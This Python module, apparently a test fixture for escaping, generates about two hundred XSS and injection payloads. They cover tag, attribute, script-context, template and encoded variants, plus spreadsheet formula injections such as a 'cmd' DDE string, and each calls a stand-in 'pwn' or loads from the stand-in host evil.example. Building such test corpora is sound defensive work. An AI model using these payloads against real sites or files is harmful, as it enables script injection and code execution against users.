"""Two hundred texts that would run something or ask another site for something, if they were taken for anything but text.

Each calls `pwn` or names the host evil.example, in every way in which HTML, SVG, CSS, JSON, scripts, templates and addresses have been got
out of. None is a mistake in Markdown or YAML: what is refused is tested elsewhere.
"""

_RUN = "pwn({})"
_TAGS = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script>", "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{}></script>", "<script type=module>{}</script>", "<svg><script>{}</script></svg>", "<math><script>{}</script></math>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>", "<img src=x:x onerror\n={}>", "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>", "<image src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>", "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>", "<svg><use href='//evil.example/x.svg#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{}</script>'></iframe></foreignObject></svg>", "<svg><image href='//evil.example/x.png'/></svg>",
    "<svg><style>*{{background:url(//evil.example/x)}}</style></svg>", "<svg><title><img src=x onerror={}></title></svg>", "<svg><desc><script>{}</script></desc></svg>",
    "<iframe src='javascript:parent.{}'></iframe>", "<iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'></iframe>", "<iframe src=//evil.example></iframe>",
    "<frame src=//evil.example>", "<object data='javascript:{}'></object>", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<embed src='javascript:{}'>",
    "<applet code=//evil.example/x></applet>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=dns-prefetch href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{{background:url(//evil.example/x.png)}}</style>", "<style onload={}></style>",
    "<body onload={}>", "<body onpageshow={}>", "<body background=//evil.example/x.png>", "<html onmouseover={}>", "<input autofocus onfocus={}>", "<input type=image src=x onerror={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<keygen autofocus onfocus={}>", "<button formaction='javascript:{}'>x</button>", "<form action='javascript:{}'><input type=submit></form>",
    "<isindex action='javascript:{}' type=image>", "<details open ontoggle={}>x</details>", "<marquee onstart={}>x</marquee>", "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>", "<video poster=//evil.example/x.png></video>", "<audio src=x onerror={}></audio>", "<audio src=//evil.example/x.mp3></audio>",
    "<dialog open onclose={}>x</dialog>", "<a href='javascript:{}'>x</a>", "<a href=javascript:{}>x</a>", "<a ping=//evil.example href=#>x</a>", "<a href='java&Tab;script:{}'>x</a>",
    "<area href='javascript:{}'>", "<map name=m><area shape=rect coords=0,0,9,9 href='javascript:{}'></map>", "<table background=//evil.example/x.png><td>x</table>",
    "<div style='background:url(//evil.example/x.png)'>x</div>", "<div style='width:expression({})'>x</div>", "<p onclick={} style=position:fixed;inset:0>x</p>",
    "<b onmouseover={} style=position:fixed;inset:0>x</b>", "<div tabindex=1 autofocus onfocus={}>x</div>", "<x onanimationstart={} style=animation-name:x>", "<x contenteditable autofocus onfocus={}>",
    "<template><script>{}</script></template>", "<template shadowrootmode=open><img src=x onerror={}></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<slot onslotchange={}>x</slot>", "<math href='javascript:{}'>x</math>", "<math><maction actiontype=statusline xlink:href='javascript:{}'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>", "<svg><p><style><img src=x onerror={}></style></p></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}></style>", "<xmp><img src=x onerror={}></xmp>", "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<plaintext><img src=x onerror={}>", "<img src='x' title='</title><script>{}</script>'>", "<portal src=//evil.example></portal>", "<fencedframe src=//evil.example></fencedframe>",
    "<object type=text/html data='data:text/html,<script>parent.{}</script>'></object>", "<bgsound src=//evil.example/x>", "<layer src=//evil.example/x></layer>",
    "<x popover id=p onbeforetoggle={}>x</x>", "<button popovertarget=p onclick={}>x</button>", "<search onclick={}>x</search>", "<picture><source srcset=//evil.example/x.png><img></picture>",
]
_ENDS = [
    "\"><script>{}</script>", "'><script>{}</script>", "><script>{}</script>", "\" onmouseover={} x=\"", "' onmouseover={} x='", "\" autofocus onfocus=\"{}", "' autofocus onfocus='{}",
    " onload={} ", "\"onload=\"{}", "\" style=\"background:url(//evil.example/x)\" x=\"", "\"/><img src=x onerror={}>", "\t\"><svg/onload={}>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</style><script>{}</script>", "</script><script>{}</script>", "</SCRIPT ><script>{}</script>", "</noscript><script>{}</script>", "</template><script>{}</script>", "</svg><script>{}</script>",
    "</math><script>{}</script>", "</text></svg><img src=x onerror={}>", "</desc><script>{}</script>", "</iframe><script>{}</script>", "</select><script>{}</script>", "</option></select><img src=x onerror={}>",
    "--><script>{}</script>", "--!><script>{}</script>", "<!--><script>{}</script>", "<!-- --><script>{}</script>", "]]><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "<?xml version='1.0'?><script>{}</script>",
    "<!DOCTYPE x><script>{}</script>", "</td></tr></table><script>{}</script>", "</button><script>{}</script>", "</dialog><img src=x onerror={}>", "</main></body></html><script>{}</script>",
    "</p><p onclick={}>", "</caption><script>{}</script>", "</label><input onfocus={} autofocus>", "</a><a href='javascript:{}'>",
]
_SCRIPT = [
    "\";{};//", "';{};//", "\\\";{};//", "\\';{};//", "`;{};//", "${{{}}}", "\"+{}+\"", "'+{}+'", "`+{}+`", "\"}});{};//", "']}}];{};//", "*/{};/*", "\u2028{}//", "\u2029{}//", "<!--\n{}", "\\u0022;{};//",
    "\\x22;{};//", "</script\u3000><script>{}</script>", "\"]}};{};//", "{{{{{}}}}}", "{{{{{{{}}}}}}}", "{{{{constructor.constructor('{}')()}}}}", "{{{{#x}}}}{}{{{{/x}}}}", "<%= {} %>", "#{{{}}}", "[[{}]]",
    "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>", "//evil.example/{}", "https:evil.example/{}", "\\\\evil.example\\{}", "javascript://%0a{}",
    "__proto__ {}", "constructor {}", "toString {}",
]
_CODED = [
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "&#x3c;img src=x onerror={}&#x3e;", "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}", "+ADw-script+AD4-{}+ADw-/script+AD4-", "＜script＞{}＜/script＞", "\u02bcscript\u02ba{}", "<\u200bscript>{}</script>",
    "&quot; onmouseover={} x=&quot;", "&#34;&#62;&#60;svg onload={}&#62;", "&NewLine;<script>{}</script>", "\u202e<script>{}</script>", "<s\u0131cript>{}</script>", "<\u017fcript>{}</script>",
    "=cmd|' /C {}'!A0", "@SUM(1+1)*{}", "=HYPERLINK(\"//evil.example\",\"{}\")",
]
# What would be a mistake of Markdown in a text, or something of its own there.
WILD = set("[]{}`$*_\\|")
TEXTS = [pattern.format(_RUN.format(number)).replace("\n", " ") for number, pattern in enumerate([*_TAGS, *_ENDS, *_SCRIPT, *_CODED])]


def is_wild(text):
    return bool(WILD & set(text)) or "<!--" in text or "<!" in text
